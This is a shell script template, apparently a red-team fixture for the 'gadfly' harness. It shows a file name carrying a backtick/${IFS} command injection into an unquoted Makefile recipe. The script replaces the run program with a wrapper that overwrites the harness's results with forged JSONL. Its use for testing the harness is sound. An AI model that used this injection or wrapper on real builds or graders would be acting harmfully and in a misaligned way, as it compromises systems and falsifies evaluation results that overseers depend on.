# gadfly red team: code in a file name (THREATS row 3). A candidate file
# named `a`sh${IFS}rt_payload.sh`.c` reaches the build's shell unquoted
# (a Makefile recipe with $(wildcard kernel/*.c)), which runs this script
# during the build. It leaves an empty a.c for the compiler, builds the
# program the run command starts, and puts a wrapper in its place (the
# build then finds it up to date): the real harness runs, then its results
# are replaced.
: > @@TARGET_DIR@@/a.c
make -s @@RUN_PROGRAM@@ >/dev/null 2>&1 || exit 0
mv -f @@RUN_PROGRAM@@ @@RUN_PROGRAM@@.rt-real || exit 0
cat > @@RUN_PROGRAM@@ <<'RT_WRAP'
#!/bin/sh
"$0.rt-real" "$@"
s=$?
out=${GADFLY_RESULTS:-}
prev=
for a in "$@"; do
  if [ "$prev" = "--out" ]; then out=$a; fi
  prev=$a
done
if [ -n "$out" ]; then
  cat > "$out" <<'RT_FORGED'
@@FORGED_JSONL@@
RT_FORGED
fi
exit $s
RT_WRAP
chmod +x @@RUN_PROGRAM@@
